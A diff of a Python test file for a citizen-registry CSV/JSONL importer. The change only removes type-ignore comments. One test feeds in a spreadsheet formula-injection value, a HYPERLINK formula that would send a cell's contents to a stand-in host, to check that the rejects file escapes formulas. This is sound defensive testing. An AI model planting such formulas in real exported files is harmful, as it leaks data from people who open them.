@@ -66,13 +66,13 @@ def counts() -> dict[str, int]:
             for m in (Citizen, CitizenNumber, Relative, Household, ImportBatch)}
 
 
-def run(path: Path, tmp_path: Path, **kwargs) -> importer.ImportResult:  # type: ignore[no-untyped-def]
+def run(path: Path, tmp_path: Path, **kwargs) -> importer.ImportResult:
     result = importer.import_file(path, actor="test", rejects_path=tmp_path / "rejects.csv", **kwargs)
     db.session().expire_all()
     return result
 
 
-def test_demo_file_lands_whole_with_households_relatives_and_provenance(app_ctx, tmp_path) -> None:  # type: ignore[no-untyped-def]
+def test_demo_file_lands_whole_with_households_relatives_and_provenance(app_ctx, tmp_path) -> None:
     result = run(DEMO, tmp_path)
     assert (result.rows_read, result.imported, result.present, result.rejected) == (9, 9, 0, 0)
     assert result.rejects_path is None and not (tmp_path / "rejects.csv").exists()
@@ -101,7 +101,7 @@ def test_demo_file_lands_whole_with_households_relatives_and_provenance(app_ctx,
     assert event.data["imported"] == 9 and "001080012345" not in json.dumps(event.data)
 
 
-def test_importing_the_same_file_again_changes_nothing(app_ctx, tmp_path) -> None:  # type: ignore[no-untyped-def]
+def test_importing_the_same_file_again_changes_nothing(app_ctx, tmp_path) -> None:
     run(DEMO, tmp_path)
     before = counts()
     stamps = sorted(db.session().execute(select(Citizen.id_number, Citizen.version, Citizen.updated_at)).all())
@@ -149,7 +149,7 @@ BAD_ROWS = {
 }
 
 
-def test_every_bad_row_is_rejected_with_its_line_and_a_reason_and_the_rest_imported(app_ctx, tmp_path) -> None:  # type: ignore[no-untyped-def]
+def test_every_bad_row_is_rejected_with_its_line_and_a_reason_and_the_rest_imported(app_ctx, tmp_path) -> None:
     rows = [person()] + [row for _, (row, _) in sorted(BAD_ROWS.items())] + [person(citizen_id="001090000099")]
     path = write_csv(tmp_path / "people.csv", rows)
     result = run(path, tmp_path)
@@ -164,7 +164,7 @@ def test_every_bad_row_is_rejected_with_its_line_and_a_reason_and_the_rest_impor
     assert first["citizen_id"] == "01090000002" and first["full_name"] == "Đỗ Văn Khoa"  # the row, to fix
 
 
-def test_the_rejects_file_escapes_formulas_and_a_corrected_one_imports_them_back(app_ctx, tmp_path) -> None:  # type: ignore[no-untyped-def]
+def test_the_rejects_file_escapes_formulas_and_a_corrected_one_imports_them_back(app_ctx, tmp_path) -> None:
     from idsvc.csvsafe import FORMULA_STARTS
 
     rows = [person(citizen_id="001090000001", full_name='=HYPERLINK("http://x.example/?"&A1,"Mở")'),
@@ -186,7 +186,7 @@ def test_the_rejects_file_escapes_formulas_and_a_corrected_one_imports_them_back
     assert (fixed.phone, fixed.religion, fixed.household.number) == ("+84912345678", "-", "@H1")
 
 
-def test_duplicates_across_chunks_and_against_the_registry(app_ctx, tmp_path, create_citizen) -> None:  # type: ignore[no-untyped-def]
+def test_duplicates_across_chunks_and_against_the_registry(app_ctx, tmp_path, create_citizen) -> None:
     create_citizen(id_number="001090000050", full_name="Đỗ Văn Khoa", birth_year=1990, birth_month=6, birth_day=1)
     create_citizen(id_number="001090000051", full_name="Lý Thị Mai", birth_year=1990, birth_month=6, birth_day=1)
     retired = create_citizen(id_number="001090000052", full_name="Đỗ Văn Khoa")
@@ -207,7 +207,7 @@ def test_duplicates_across_chunks_and_against_the_registry(app_ctx, tmp_path, cr
     assert service.get_citizen_by_number("001090000051").full_name == "Lý Thị Mai"  # untouched
 
 
-def test_hygiene_bom_nfd_whitespace_crlf_and_spreadsheet_codes(app_ctx, tmp_path) -> None:  # type: ignore[no-untyped-def]
+def test_hygiene_bom_nfd_whitespace_crlf_and_spreadsheet_codes(app_ctx, tmp_path) -> None:
     nfd = unicodedata.normalize("NFD", "  Nguyễn   Thị  Ðào ")
     path = write_csv(tmp_path / "excel.csv", [person(full_name=nfd, permanent_commune="70", current_commune=" 70 ",
                                                      ethnicity="hmong", sex="f", citizen_id="001190000001")],
@@ -221,7 +221,7 @@ def test_hygiene_bom_nfd_whitespace_crlf_and_spreadsheet_codes(app_ctx, tmp_path
     assert [c.id_number for c in service.find_by_name("nguyen thi dao")] == ["001190000001"]
 
 
-def test_a_semicolon_separated_file_imports(app_ctx, tmp_path) -> None:  # type: ignore[no-untyped-def]
+def test_a_semicolon_separated_file_imports(app_ctx, tmp_path) -> None:
     rows = [person(place_of_birth="Hà Nội, Việt Nam"), person(citizen_id="001090000002", hometown="Huế; Đà Nẵng"),
             person(citizen_id="001090000003", sex="X")]
     path = write_csv(tmp_path / "excel-vi.csv", rows, delimiter=";", encoding="utf-8-sig", newline="\r\n")
@@ -241,7 +241,7 @@ def test_a_semicolon_separated_file_imports(app_ctx, tmp_path) -> None:  # type:
 @pytest.mark.parametrize(("encoding", "bom"), [("utf-16-le", "\ufeff"), ("utf-16-be", "\ufeff")])
 @pytest.mark.parametrize("fmt", ["csv", "jsonl"])
 def test_a_utf16_file_with_its_byte_order_mark_imports(app_ctx, tmp_path, monkeypatch, encoding, bom, fmt,
-                                                       reading_process) -> None:  # type: ignore[no-untyped-def]
+                                                       reading_process) -> None:
     if reading_process:
         monkeypatch.setattr(importer, "PARALLEL_FROM_LINES", 1)
     rows = [person(full_name="Nguyễn Thị Đào"), person(citizen_id="001090000002", full_name="Lê Văn 𠀋"),
@@ -260,14 +260,14 @@ def test_a_utf16_file_with_its_byte_order_mark_imports(app_ctx, tmp_path, monkey
     assert "not M or F" in read_rejects(result.rejects_path)[3 + (fmt == "csv")]
 
 
-def test_a_broken_utf16_file_is_a_clear_error(app_ctx, tmp_path) -> None:  # type: ignore[no-untyped-def]
+def test_a_broken_utf16_file_is_a_clear_error(app_ctx, tmp_path) -> None:
     path = tmp_path / "broken.csv"
     path.write_bytes(("\ufeff" + ",".join(COLUMNS) + "\n").encode("utf-16-le") + b"\x00\xd8A\x00")  # a lone half
     with pytest.raises(reader.UnreadableFile, match="begins as UTF-16 text but is not: line 2"):
         run(path, tmp_path)
 
 
-def test_a_file_that_is_not_utf8_is_a_clear_error_and_writes_nothing(app_ctx, tmp_path) -> None:  # type: ignore[no-untyped-def]
+def test_a_file_that_is_not_utf8_is_a_clear_error_and_writes_nothing(app_ctx, tmp_path) -> None:
     path = write_csv(tmp_path / "legacy.csv", [person(full_name="Do Van Khoa"),
                                                          person(citizen_id="001090000002", full_name="Lê Văn Hà")],
                      encoding="cp1258")  # a legacy Windows code page
@@ -283,14 +283,14 @@ def test_a_file_that_is_not_utf8_is_a_clear_error_and_writes_nothing(app_ctx, tm
     ((*COLUMNS, ""), f"column {len(COLUMNS) + 1} of the header has no name"),
     (tuple(person().values()), "has no header line"),
 ])
-def test_a_bad_header_is_a_clear_error(app_ctx, tmp_path, header, message) -> None:  # type: ignore[no-untyped-def]
+def test_a_bad_header_is_a_clear_error(app_ctx, tmp_path, header, message) -> None:
     path = write_csv(tmp_path / "bad.csv", [person()], columns=header)
     with pytest.raises(reader.UnreadableFile, match=message):
         run(path, tmp_path)
     assert counts()["import_batch"] == 0
 
 
-def test_a_corrected_rejects_file_imports_as_it_is(app_ctx, tmp_path) -> None:  # type: ignore[no-untyped-def]
+def test_a_corrected_rejects_file_imports_as_it_is(app_ctx, tmp_path) -> None:
     path = write_csv(tmp_path / "people.csv", [person(), person(citizen_id="001090000002", sex="X")])
     first = run(path, tmp_path)
     assert (first.imported, first.rejected) == (1, 1)
@@ -303,7 +303,7 @@ def test_a_corrected_rejects_file_imports_as_it_is(app_ctx, tmp_path) -> None:  
     assert service.get_citizen_by_number("001090000002").sex == "M"
 
 
-def test_malformed_lines_are_rejected_not_fatal(app_ctx, tmp_path) -> None:  # type: ignore[no-untyped-def]
+def test_malformed_lines_are_rejected_not_fatal(app_ctx, tmp_path) -> None:
     csv_path = tmp_path / "ragged.csv"
     write_csv(csv_path, [person()])
     with csv_path.open("a", encoding="utf-8") as f:
@@ -341,7 +341,7 @@ def test_csv_and_jsonl_of_the_same_rows_stage_the_same_values(tmp_path) -> None:
     assert from_csv == from_jsonl and len(from_csv) == 9
 
 
-def test_cli_import_prints_a_summary_and_show_prints_the_record(runner, tmp_path) -> None:  # type: ignore[no-untyped-def]
+def test_cli_import_prints_a_summary_and_show_prints_the_record(runner, tmp_path) -> None:
     out = runner.invoke(args=["registry", "import", str(DEMO), "--rejects", str(tmp_path / "r.csv")])
     assert out.exit_code == 0, out.output
     assert "9 imported, 0 already in the registry, 0 rejected" in out.output
@@ -353,7 +353,7 @@ def test_cli_import_prints_a_summary_and_show_prints_the_record(runner, tmp_path
     assert missing.exit_code == 1 and "no citizen with this number (001099999999)" in missing.output
 
 
-def test_cli_show_names_a_malformed_number_the_source_and_the_countries_in_aligned_columns(runner, tmp_path) -> None:  # type: ignore[no-untyped-def]
+def test_cli_show_names_a_malformed_number_the_source_and_the_countries_in_aligned_columns(runner, tmp_path) -> None:
     assert runner.invoke(args=["registry", "import", str(DEMO), "--rejects", str(tmp_path / "r.csv")]).exit_code == 0
     for typed, reason in [("01080012345", "an ID number has exactly 12 digits; this one has 11"),
                           ("0010800123 45", "an ID number has only the digits 0-9"),
@@ -388,7 +388,7 @@ def test_cli_show_names_a_malformed_number_the_source_and_the_countries_in_align
                      r"Birth certificate 9/2026", born), born
 
 
-def service_rows(runner, number: str) -> list[tuple[str, str]]:  # type: ignore[no-untyped-def]
+def service_rows(runner, number: str) -> list[tuple[str, str]]:
     with runner.app.app_context():
         return service.describe(service.get_citizen_by_number(number))
 
@@ -402,7 +402,7 @@ def test_the_country_table_names_every_code_of_birth_registration_abroad() -> No
     assert countries.nationality("FR") == "FR (France / Pháp)" and countries.nationality("XK") == "XK"
 
 
-def test_cli_import_exit_status_tells_all_imported_from_some_rejected_from_refused(runner, tmp_path) -> None:  # type: ignore[no-untyped-def]
+def test_cli_import_exit_status_tells_all_imported_from_some_rejected_from_refused(runner, tmp_path) -> None:
     good = write_csv(tmp_path / "good.csv", [person()])
     some_bad = write_csv(tmp_path / "some-bad.csv", [person(citizen_id="001090000002"),
                                                      person(citizen_id="001090000003", sex="X")])
@@ -417,7 +417,7 @@ def test_cli_import_exit_status_tells_all_imported_from_some_rejected_from_refus
     assert refused.exit_code == 2 and "the header lacks the columns" in refused.output
 
 
-def test_cli_import_of_an_unreadable_file_is_an_error_message_not_a_traceback(runner, tmp_path) -> None:  # type: ignore[no-untyped-def]
+def test_cli_import_of_an_unreadable_file_is_an_error_message_not_a_traceback(runner, tmp_path) -> None:
     bad = tmp_path / "latin1.csv"
     bad.write_bytes(b"citizen_id,full_name\n001090000001,Nguy\xe9n\n")
     out = runner.invoke(args=["registry", "import", str(bad)])
@@ -430,7 +430,7 @@ def test_cli_import_of_an_unreadable_file_is_an_error_message_not_a_traceback(ru
     assert "Traceback" not in nowhere.output
 
 
-def test_an_actor_name_the_audit_trail_cannot_keep_is_refused_before_anything_is_written(runner, tmp_path) -> None:  # type: ignore[no-untyped-def]
+def test_an_actor_name_the_audit_trail_cannot_keep_is_refused_before_anything_is_written(runner, tmp_path) -> None:
     out = runner.invoke(args=["registry", "import", str(DEMO), "--actor", "x" * 101, "--rejects",
                               str(tmp_path / "r.csv")])
     assert out.exit_code == 2 and "the actor (who runs the import) is 1 to 100 characters" in out.output
@@ -438,7 +438,7 @@ def test_an_actor_name_the_audit_trail_cannot_keep_is_refused_before_anything_is
 
 
 @pytest.mark.parametrize("chunk_size", [2, 100])
-def test_a_household_has_one_head_in_a_file(app_ctx, tmp_path, chunk_size) -> None:  # type: ignore[no-untyped-def]
+def test_a_household_has_one_head_in_a_file(app_ctx, tmp_path, chunk_size) -> None:
     rows = [person(citizen_id="001090000001", household_id="H1", relationship_to_head="head"),
             person(citizen_id="001090000002", household_id="H1", relationship_to_head="spouse"),
             person(citizen_id="001090000003", household_id="H2", relationship_to_head="head"),
@@ -453,7 +453,7 @@ def test_a_household_has_one_head_in_a_file(app_ctx, tmp_path, chunk_size) -> No
     assert (again.imported, again.present, again.rejected) == (0, 3, 1)
 
 
-def test_a_quote_left_open_costs_its_own_line_only(app_ctx, tmp_path) -> None:  # type: ignore[no-untyped-def]
+def test_a_quote_left_open_costs_its_own_line_only(app_ctx, tmp_path) -> None:
     rows = [person(citizen_id=f"001090000{n:03d}") for n in range(1, 8)]
     path = write_csv(tmp_path / "people.csv", rows)
     lines = path.read_text(encoding="utf-8").splitlines(keepends=True)
@@ -469,7 +469,7 @@ def test_a_quote_left_open_costs_its_own_line_only(app_ctx, tmp_path) -> None:  
     assert (result.rows_read, result.imported, result.rejected) == (8, 5, 3)
 
 
-def test_the_rejects_file_never_replaces_the_input_nor_an_earlier_list_of_a_refused_run(runner, tmp_path) -> None:  # type: ignore[no-untyped-def]
+def test_the_rejects_file_never_replaces_the_input_nor_an_earlier_list_of_a_refused_run(runner, tmp_path) -> None:
     people = tmp_path / "people.csv"
     people.write_bytes(DEMO.read_bytes())
     same = runner.invoke(args=["registry", "import", str(people), "--rejects", str(tmp_path / "." / "people.csv")])
@@ -499,7 +499,7 @@ def schema_drift(url: str) -> list[object]:
         engine.dispose()
 
 
-def test_initial_load_fills_an_empty_registry_and_leaves_the_schema_whole(app_ctx, tmp_path) -> None:  # type: ignore[no-untyped-def]
+def test_initial_load_fills_an_empty_registry_and_leaves_the_schema_whole(app_ctx, tmp_path) -> None:
     population = DEMO.with_name("demo_population.csv")
     result = run(population, tmp_path, initial_load=True)
     assert (result.imported, result.rejected) == (3000, 0)
@@ -511,7 +511,7 @@ def test_initial_load_fills_an_empty_registry_and_leaves_the_schema_whole(app_ct
     assert run(DEMO, tmp_path).imported == 9  # and ordinary imports go on as before
 
 
-def test_a_stopped_initial_load_leaves_nothing(app_ctx, tmp_path) -> None:  # type: ignore[no-untyped-def]
+def test_a_stopped_initial_load_leaves_nothing(app_ctx, tmp_path) -> None:
     with pytest.raises(importer.ImportStopped, match="nothing was imported"):
         run(DEMO, tmp_path, initial_load=True, should_stop=lambda: True)
     assert counts()["citizen"] == counts()["import_batch"] == 0
@@ -528,7 +528,7 @@ BROKEN_ROWS = {
 
 
 @pytest.mark.parametrize("broken", sorted(BROKEN_ROWS))
-def test_initial_load_checks_constraints_in_bulk_and_leaves_them_enforced(app_ctx, tmp_path, broken) -> None:  # type: ignore[no-untyped-def]
+def test_initial_load_checks_constraints_in_bulk_and_leaves_them_enforced(app_ctx, tmp_path, broken) -> None:
     from sqlalchemy import text
 
     from idsvc.registry.bulkwrite import BulkWriter
@@ -556,7 +556,7 @@ def test_initial_load_checks_constraints_in_bulk_and_leaves_them_enforced(app_ct
     assert schema_drift(app_ctx.config["DATABASE_URL"]) == []
 
 
-def test_imported_values_keep_their_types_and_backslashes(app_ctx, tmp_path) -> None:  # type: ignore[no-untyped-def]
+def test_imported_values_keep_their_types_and_backslashes(app_ctx, tmp_path) -> None:
     """NULLs, integers and backslashes come out as checked, also through the COPY text (PostgreSQL)."""
     from sqlalchemy import text
 
@@ -585,7 +585,7 @@ def test_imported_values_keep_their_types_and_backslashes(app_ctx, tmp_path) -> 
                           "null", "text")]
 
 
-def test_initial_load_rejects_a_number_repeated_in_a_later_chunk(app_ctx, tmp_path) -> None:  # type: ignore[no-untyped-def]
+def test_initial_load_rejects_a_number_repeated_in_a_later_chunk(app_ctx, tmp_path) -> None:
     """An initial load writes each chunk without looking its numbers up; a repeat still gets its reason."""
     rows = [person(citizen_id=f"001090000{n:03d}", household_id=f"H{n}", relationship_to_head="head")
             for n in range(1, 6)]
